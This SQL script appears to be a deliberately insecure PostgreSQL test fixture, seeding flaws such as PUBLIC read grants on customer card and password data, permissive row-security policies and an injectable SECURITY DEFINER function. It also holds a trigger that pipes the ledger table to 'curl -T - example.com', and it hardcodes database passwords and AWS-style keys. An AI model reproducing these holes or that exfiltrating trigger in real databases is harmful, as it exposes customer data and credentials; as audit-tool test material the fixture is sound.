-- Every sin that a database can have. Its roles are in roles.sql.
CREATE TABLE customers (id int PRIMARY KEY, email text, phone text, iban text, card text, password text, tenant_id int);
INSERT INTO customers SELECT g, 'person' || g || '@mail.example.com', '+49 30 ' || (1000000 + g * 37), 'DE89370400440532013000',
  '4111111111111111', 'Sommer' || (1900 + g) || '!', g % 7 FROM generate_series(1, 200) g;
ALTER TABLE customers OWNER TO till;
GRANT SELECT ON customers TO PUBLIC;
ANALYZE customers;
GRANT CREATE ON SCHEMA public TO PUBLIC;
ALTER DEFAULT PRIVILEGES FOR ROLE till GRANT SELECT ON TABLES TO PUBLIC;
GRANT EXECUTE ON FUNCTION pg_read_file(text) TO legacy;
CREATE TABLE ledger (id int, amount numeric);
GRANT SELECT ON ledger TO support WITH GRANT OPTION;
GRANT UPDATE ON ledger TO bi_readonly;

CREATE TABLE invoices (id int, tenant_id int);
CREATE POLICY asleep ON invoices USING (tenant_id = 1);
CREATE TABLE orders (id int, tenant_id int, owner name);
ALTER TABLE orders ENABLE ROW LEVEL SECURITY;
ALTER TABLE orders OWNER TO till;
GRANT SELECT ON orders TO app, legacy;
CREATE POLICY everybody ON orders USING (true);
CREATE POLICY told ON orders FOR DELETE USING (tenant_id = current_setting('app.tenant')::int);
CREATE VIEW all_orders AS SELECT * FROM orders;
GRANT SELECT ON all_orders TO app;
CREATE TABLE events (id int, tenant_id int) PARTITION BY LIST (tenant_id);
CREATE TABLE events_1 PARTITION OF events FOR VALUES IN (1);
ALTER TABLE events ENABLE ROW LEVEL SECURITY;
CREATE POLICY own ON events USING (tenant_id = 1);
GRANT SELECT ON events_1 TO legacy;
CREATE TABLE locked (id int);
ALTER TABLE locked ENABLE ROW LEVEL SECURITY;

CREATE FUNCTION credit(customer int) RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1';
CREATE FUNCTION inject(name text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
  AS $$ BEGIN EXECUTE 'SELECT 1 FROM ' || name; END $$;
CREATE FUNCTION handler() RETURNS language_handler LANGUAGE c AS '$libdir/plpgsql', 'plpgsql_call_handler';
CREATE LANGUAGE wild HANDLER handler;
CREATE FUNCTION hook() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';
ALTER FUNCTION hook() OWNER TO app;
CREATE EVENT TRIGGER hook ON ddl_command_end EXECUTE FUNCTION hook();
CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN COPY ledger TO PROGRAM 'curl -T - example.com'; RETURN NEW; END $$;
CREATE TRIGGER tell AFTER INSERT ON ledger FOR EACH ROW EXECUTE FUNCTION tell();
CREATE EXTENSION dblink;
CREATE EXTENSION postgres_fdw;

CREATE SERVER peer FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '10.9.9.9', dbname 'billing');
CREATE USER MAPPING FOR app SERVER peer OPTIONS (user 'billing', password 'kLw83nQz61vB');
CREATE SUBSCRIPTION feed CONNECTION 'host=10.9.9.9 dbname=feed user=feed password=Tq72mXc90pLz' PUBLICATION p
  WITH (connect = false, slot_name = NONE);
CREATE FUNCTION upload() RETURNS text LANGUAGE plpgsql AS $$ DECLARE key text := 'AKIAQ7R2TZM4WX6YBN3C'; aws_secret_access_key text := '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'; BEGIN RETURN key; END $$;
CREATE PUBLICATION everything FOR ALL TABLES;
